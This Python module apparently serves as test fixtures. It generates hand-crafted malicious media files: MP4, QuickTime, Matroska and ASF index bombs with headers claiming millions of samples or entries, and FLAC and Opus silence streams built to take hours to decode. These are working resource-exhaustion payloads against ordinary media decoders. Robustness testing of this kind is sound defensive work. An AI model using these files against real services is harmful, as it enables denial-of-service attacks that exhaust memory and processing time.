"""Recordings that are made to do harm, written by hand: small files that take a decoder gigabytes or hours."""

import struct
from collections.abc import Callable, Iterator

# MP4 (ISO/IEC 14496-12)


def box(kind: bytes, *contents: bytes) -> bytes:
    body = b"".join(contents)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def full_box(kind: bytes, *numbers: int, flags: int = 0) -> bytes:
    return box(kind, struct.pack(f">{1 + len(numbers)}I", flags, *numbers))


def mp4_tables(samples: int, *, size: int = 1, delta: int = 1024, delays: int = 0) -> bytes:
    """The tables of a track that has so many samples of one size in one chunk."""
    entry = box(b"mp4a", struct.pack(">6xH8xHHHHI", 1, 1, 16, 0, 0, 16_000 << 16))
    tables = (
        box(b"stsd", struct.pack(">II", 0, 1), entry),
        full_box(b"stts", 1, samples, delta),
        full_box(b"stsc", 1, 1, samples, 1),
        full_box(b"stsz", size, samples),
        full_box(b"stco", 1, 40),
        full_box(b"ctts", 1, delays, 7) if delays else b"",
    )
    return box(b"stbl", *tables)


def mp4_track(tables: bytes, number: int = 1) -> bytes:
    header = box(b"tkhd", struct.pack(">IIIII60x8x", 7, 0, 0, number, 0))
    media_header = box(b"mdhd", struct.pack(">IIIIIHH", 0, 0, 0, 16_000, 0, 0x55C4, 0))
    handler = box(b"hdlr", struct.pack(">II4s12x", 0, 0, b"soun"), b"\0")
    information = box(b"minf", box(b"smhd", bytes(8)), tables)
    return box(b"trak", header, box(b"mdia", media_header, handler, information))


def mp4(*inside: bytes, after: bytes = b"", hidden_as: bytes = b"") -> bytes:
    """A file with these boxes in its moov, which may bear another name."""
    header = box(b"mvhd", struct.pack(">IIIII80x", 0, 0, 0, 1000, 0))
    moov = box(hidden_as or b"moov", header, *inside)
    return box(b"ftyp", b"isom", bytes(4), b"isom") + moov + box(b"mdat", bytes(1000)) + after


def mp4_index_bomb(samples: int = 60_000_000, tracks: int = 2) -> bytes:
    return mp4(*(mp4_track(mp4_tables(samples), number + 1) for number in range(tracks)))


def mp4_delays_bomb(samples: int = 100_000_000) -> bytes:
    return mp4(mp4_track(mp4_tables(100, delays=samples)))


def mp4_pcm_bomb(samples: int = 4_000_000_000) -> bytes:
    """All samples of a chunk of PCM share entries of 1024; a table of chunks claims millions of such chunks."""
    return mp4(mp4_track(mp4_tables(samples, delta=1)))


def mp4_fragment_bomb(samples: int = 50_000_000, fragments: int = 4) -> bytes:
    track = mp4_track(mp4_tables(0))
    extends = box(b"mvex", full_box(b"trex", 1, 1, 1024, 1, 0))
    run = box(b"traf", full_box(b"tfhd", 1, flags=0x020000), full_box(b"trun", samples))
    fragment = box(b"moof", full_box(b"mfhd", 1), run) + box(b"mdat", bytes(100))
    return mp4(track, extends, after=fragment * fragments)


def mp4_hidden_bomb() -> bytes:
    return mp4(mp4_track(mp4_tables(60_000_000)), hidden_as=b"free")


def mp4_packed_bomb() -> bytes:
    """A QuickTime header that is compressed, as this one's 60 million samples could be."""
    import zlib

    inner = mp4(mp4_track(mp4_tables(60_000_000)))[20:-1008]
    packed = box(b"cmvd", struct.pack(">I", len(inner)), zlib.compress(inner))
    return box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + box(b"moov", box(b"cmov", box(b"dcom", b"zlib"), packed))


# Matroska (RFC 9559)


def element(number: bytes, body: bytes) -> bytes:
    return number + struct.pack(">Q", len(body) | 1 << 56) + body


def matroska(segment: bytes) -> bytes:
    head = element(b"\x1a\x45\xdf\xa3", b"\x42\x82\x84webm")
    return head + element(b"\x18\x53\x80\x67", segment)


def matroska_tracks_bomb(count: int = 4_000_000) -> bytes:
    """Empty TrackEntry elements of two bytes."""
    return matroska(element(b"\x16\x54\xae\x6b", b"\xae\x80" * count))


def matroska_cues_bomb(count: int = 3_000_000) -> bytes:
    """Empty CuePoint elements of two bytes, before one track of Opus."""
    audio = b"\xd7\x81\x01\x73\xc5\x81\x01\x83\x81\x02\x86\x86A_OPUS\xe1\x8d\x9f\x81\x01\xb5\x88" + struct.pack(
        ">d", 48_000
    )
    return matroska(
        element(b"\x1c\x53\xbb\x6b", b"\xbb\x80" * count) + element(b"\x16\x54\xae\x6b", element(b"\xae", audio))
    )


# ASF (Microsoft's specification, revision 01.20)

_ASF_HEADER = bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c")
_ASF_FILE = bytes.fromhex("a1dcab8c47a9cf118ee400c00c205365")
_ASF_STREAM = bytes.fromhex("9107dcb7b7a9cf118ee600c00c205365")
_ASF_AUDIO = bytes.fromhex("409e69f84d5bcf11a8fd00805f5c442b")
_ASF_MARKER = bytes.fromhex("01cd87f451a9cf118ee600c00c205365")
_ASF_DATA = bytes.fromhex("3626b2758e66cf11a6d900aa0062ce6c")


def asf_object(identity: bytes, body: bytes) -> bytes:
    return identity + struct.pack("<Q", 24 + len(body)) + body


def asf_markers_bomb(count: int = 400_000) -> bytes:
    """A table of contents with so many markers of 30 bytes."""
    marker = struct.pack("<QQHIIII", 0, 1, 16, 0, 0, 1, 0)[:30]
    markers = asf_object(_ASF_MARKER, bytes(16) + struct.pack("<IHH", count, 0, 0) + marker * count)
    properties = asf_object(_ASF_FILE, bytes(16) + struct.pack("<QQQQQQIIII", 0, 0, 1, 0, 0, 0, 0, 3200, 3200, 64_000))
    wave = struct.pack("<HHIIHHH", 0x161, 1, 16_000, 2000, 64, 16, 10) + bytes(10)
    stream = asf_object(_ASF_STREAM, _ASF_AUDIO + bytes(16) + struct.pack("<QIIHI", 0, len(wave), 0, 1, 0) + wave)
    inner = properties + stream + markers
    head = asf_object(_ASF_HEADER, struct.pack("<IBB", 3, 1, 2) + inner)
    return head + asf_object(_ASF_DATA, bytes(26))


# FLAC (RFC 9639) and Opus in Ogg (RFC 7845): silence that takes hours to decode


def _crc(polynomial: int, bits: int) -> Callable[[bytes], int]:
    top, mask = 1 << (bits - 1), (1 << bits) - 1
    table = []
    for byte in range(256):
        value = byte << (bits - 8)
        for _ in range(8):
            value = (value << 1) ^ polynomial if value & top else value << 1
        table.append(value & mask)

    def checksum(data: bytes) -> int:
        value = 0
        for byte in data:
            value = (value << 8 & mask) ^ table[(value >> (bits - 8)) ^ byte]
        return value

    return checksum


_crc8, _crc16, _crc32 = _crc(0x07, 8), _crc(0x8005, 16), _crc(0x04C11DB7, 32)


def flac_silence(seconds: float, rate: int = 16_000, block: int = 65_535) -> bytes:
    """Frames of 15 bytes with one constant value each: 4 s at 16 kHz."""
    info = struct.pack(">HH3x3x", block, block) + struct.pack(">Q", rate << 44 | 15 << 36) + bytes(16)
    return b"fLaC\x80" + len(info).to_bytes(3, "big") + info + b"".join(_flac_frames(seconds, rate, block))


def _flac_frames(seconds: float, rate: int, block: int) -> Iterator[bytes]:
    for number in range(int(seconds * rate) // block):
        coded = chr(number).encode() if not 0xD800 <= number < 0xE000 else chr(0).encode()
        head = b"\xff\xf8\x75\x08" + coded + struct.pack(">H", block - 1)
        frame = head + bytes([_crc8(head)]) + b"\x00\x00\x00"
        yield frame + struct.pack(">H", _crc16(frame))


def opus_silence(seconds: float) -> bytes:
    """Packets of 14 bytes: six silent frames of 20 ms."""
    head = struct.pack("<8sBBHIhB", b"OpusHead", 1, 1, 0, 16_000, 0, 0)
    tags = struct.pack("<8sI4sI", b"OpusTags", 4, b"none", 0)
    pages = [_ogg_page([head], 0, 0, 2), _ogg_page([tags], 0, 1, 0)]
    packets = int(seconds / 0.12)
    for number, start in enumerate(range(0, packets, 255), 2):
        count = min(255, packets - start)
        last = 4 if start + count == packets else 0
        pages.append(_ogg_page([b"\xfb\x06" + b"\xff\xfe" * 6] * count, (start + count) * 5760, number, last))
    return b"".join(pages)


def _ogg_page(packets: list[bytes], granule: int, number: int, flags: int) -> bytes:
    head = struct.pack("<4sBBqIIIB", b"OggS", 0, flags, granule, 1, number, 0, len(packets))
    page = head + bytes(map(len, packets)) + b"".join(packets)
    return page[:22] + struct.pack("<I", _crc32(page)) + page[26:]


INDEX_BOMBS: dict[str, Callable[[], bytes]] = {
    "mp4 samples": mp4_index_bomb,
    "mp4 delays": mp4_delays_bomb,
    "mp4 chunks": mp4_pcm_bomb,
    "mp4 fragments": mp4_fragment_bomb,
    "mp4 hidden": mp4_hidden_bomb,
    "mp4 packed": mp4_packed_bomb,
    "matroska tracks": matroska_tracks_bomb,
    "matroska cues": matroska_cues_bomb,
    "asf markers": asf_markers_bomb,
}
